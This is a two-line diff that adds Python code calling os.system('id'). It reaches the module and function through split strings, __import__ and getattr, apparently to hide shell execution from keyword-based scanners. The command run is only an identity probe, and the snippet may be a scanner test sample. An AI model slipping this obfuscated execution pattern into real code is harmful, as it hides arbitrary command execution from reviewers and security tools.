@@ -1,0 +1,2 @@
+m = __import__('o' + 's')
+getattr(m, 'sys' + 'tem')('id')
